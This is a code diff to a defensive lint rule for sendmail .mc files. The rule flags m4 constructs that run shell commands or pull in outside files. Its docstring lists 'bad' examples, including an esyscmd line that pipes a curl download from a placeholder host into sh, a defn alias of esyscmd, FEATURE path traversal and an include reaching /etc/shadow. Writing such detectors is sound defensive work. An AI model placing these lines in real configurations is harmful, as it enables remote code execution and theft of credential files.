@@ -8,6 +8,15 @@ rest of the file, ``define``/``undefine`` of an m4 builtin (``dnl``,
 ``m4exit``, ``m4wrap``, ``debugfile``, ``maketemp``, ``mkstemp``, ``builtin``,
 ``indir`` and ``undivert(`file')`` reach outside the text. All are errors.
 
+So are the spellings that reach them without naming them as a call: ``defn``
+given the name of one of those builtins (``define(`Q', defn(`esyscmd'))Q(...)``),
+and an ``OSTYPE``, ``FEATURE``,
+``DOMAIN``, ``HACK``, ``MAILER`` or ``SITECONFIG`` argument holding a ``/``
+(``FEATURE(`../../../tmp/x')``: the cf macros include ``CFDIR/feature/NAME.m4``).
+``render`` and ``make`` run m4 locked and refuse all of these unless
+``--allow-m4-commands`` (see :mod:`sendmailcfg.mc.m4safe`); a finding here
+is what would need that flag.
+
 Only these ``include``/``sinclude`` targets are trusted, after the path is
 normalised (``..``, ``./`` and doubled slashes resolved): the cf package's own
 ``m4/cf.m4`` and ``m4/*.m4`` under the cf folder (``cf-dir`` in the
@@ -21,6 +30,8 @@ files Debian's own ``sendmail.mc`` includes, ``/etc/mail/m4/dialup.m4`` and
 Bad::
 
     esyscmd(`curl http://example.net/x | sh')dnl
+    define(`Q', defn(`esyscmd'))dnl
+    FEATURE(`../../../../home/user/x')dnl
     include(`/home/user/extra.m4')dnl
     include(`/usr/share/sendmail/cf/m4/../../../../etc/shadow')dnl
 
@@ -37,7 +48,7 @@ from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from sendmailcfg.lint.engine import Problem
-from sendmailcfg.mc.macros import M4_BUILTINS
+from sendmailcfg.mc.macros import DANGEROUS_BUILTINS, M4_BUILTINS
 
 if TYPE_CHECKING:
     from sendmailcfg.lint.engine import FileSet, LintFile
@@ -94,7 +105,46 @@ def trusted(target: str, cf_dir: str | None) -> bool:
     return False
 
 
+COPIERS = frozenset({"defn"})
+"""Builtins that reach another by its name (``indir``/``builtin`` are errors anyway)."""
+
+REACHED = DANGEROUS_BUILTINS | {"defn", "pushdef", "popdef", "define", "undefine"}
+"""What a copier must not be given: the dangerous builtins and those that copy them."""
+
+PATH_MACROS = ("OSTYPE", "FEATURE", "DOMAIN", "HACK", "MAILER", "SITECONFIG")
+"""cf macros that include ``CFDIR/<folder>/$1.m4``: their first argument is a file name."""
+
+
+def _reaching(file: LintFile) -> Iterator[Problem]:
+    for c in file.doc.model.calls:
+        if c.bare or c.in_hash_comment:
+            continue
+        if c.name in COPIERS and c.values:
+            target = c.value(0).strip()
+            if target in REACHED:
+                yield Problem(
+                    c.line,
+                    c.column,
+                    f"{c.name}() reaches the m4 builtin {target} by name: the .cf build "
+                    "would run what it runs (render/make refuse it without "
+                    "--allow-m4-commands)",
+                    "remove it; a .mc should only use sendmail's cf macros",
+                )
+        elif c.name in PATH_MACROS and c.values:
+            arg = c.value(0).strip()
+            if "/" in arg or arg.startswith("."):
+                yield Problem(
+                    c.line,
+                    c.column,
+                    f"{c.name}(`{arg}') names a file outside the cf package's "
+                    f"{c.name.lower()} folder: m4 would include it "
+                    "(render/make refuse it without --allow-m4-commands)",
+                    "use the name of a file of the cf package, without / or ..",
+                )
+
+
 def check(file: LintFile, fileset: FileSet) -> Iterator[Problem]:
+    yield from _reaching(file)
     cf_dir = fileset.config.cf_dir
     for c in file.doc.dangerous:
         if c.name in ("include", "sinclude"):
